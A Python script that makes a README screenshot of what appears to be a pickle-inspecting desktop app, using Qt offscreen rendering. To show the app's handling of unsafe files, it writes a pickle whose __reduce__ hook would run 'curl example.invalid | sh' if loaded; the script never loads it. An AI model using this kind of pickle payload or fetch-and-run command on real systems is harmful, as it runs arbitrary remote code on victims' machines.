"""Render the README screenshot with the real app under Qt's offscreen platform.

    QT_QPA_PLATFORM=offscreen .venv/bin/python resources/make_screenshot.py

It opens a small JSON file under a pickle's name and a pickle that would run a shell command
if loaded (written here, never loaded), and saves the window showing the pickle.
"""

from __future__ import annotations

import json
import os
import pickle
import sys
import tempfile
from pathlib import Path

os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")
ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))


class Hook:
    def __reduce__(self):
        return (os.system, ("curl example.invalid | sh",))


def main() -> None:
    from PySide6.QtCore import QTimer

    import main as app_main

    folder = Path(tempfile.mkdtemp(prefix="datashelf-shot-"))
    model = folder / "model.pkl"
    model.write_bytes(pickle.dumps({"weights": [0.12, 0.5, 0.97], "epochs": 12, "hook": Hook()}))
    config = folder / "config.pkl"
    config.write_text(json.dumps({"name": "demo", "threshold": 0.8}, indent=2))
    app, window = app_main.build(["--settings-dir", str(folder / "settings"), str(config),
                                  str(model)])
    window.resize(1100, 640)
    window.show()

    def snap() -> None:
        docs = window.all_documents()
        if len(docs) < 2 or not all(d.is_loaded for d in docs):
            QTimer.singleShot(50, snap)
            return
        window.activate_document(window.find_document(str(model)))
        app.processEvents()
        window.grab().save(str(ROOT / "resources" / "screenshot.png"))
        window.close()

    QTimer.singleShot(50, snap)
    app.exec()


if __name__ == "__main__":
    main()
